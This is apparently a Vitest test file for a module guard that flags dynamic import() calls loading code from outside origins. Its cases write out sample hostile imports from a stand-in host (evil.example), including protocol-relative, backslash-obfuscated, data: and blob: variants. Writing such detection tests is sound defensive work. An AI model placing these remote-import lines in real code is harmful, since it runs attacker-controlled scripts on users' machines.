import { describe, expect, it } from 'vitest';
import { findRemoteImport } from '../../src/runtime/module-guard.ts';

const base = 'https://site.example/team/app/assets/runtime.worker.js';

describe('findRemoteImport', () => {
  it.each([
    ['const m = await import("https://evil.example/x.js")', 'https://evil.example/x.js'],
    ['await import("//evil.example/x.js")', '//evil.example/x.js'],
    ['await import("/\\\\evil.example/x.js")', '/\\evil.example/x.js'],
    ['await import("data:text/javascript,fetch(1)")', 'data:text/javascript,fetch(1)'],
    ['await import("blob:https://site.example/1234")', 'blob:https://site.example/1234'],
    ['const f = () => import("https://evil.example/" + 1)', null],
    ['const u = "https://evil.example"; await import(u)', null],
    ['if (x) { for (;;) { await import(`https://evil.example`) } }', null],
  ])('finds %s', (body, url) => {
    expect(findRemoteImport(body, base)).toMatchObject({ url });
  });

  it.each([['await import("./chunk.js")'], ['await import("/team/app/assets/plot.js")'], ['const x = 1; return {x}'], ['const importer = 1']])(
    'allows %s',
    (body) => {
      expect(findRemoteImport(body, base)).toBeNull();
    },
  );

  it('points at the import', () => {
    const body = 'const a = 1;\nawait import("https://evil.example/x.js")';
    expect(findRemoteImport(body, base)?.offset).toBe(body.indexOf('import('));
  });
});
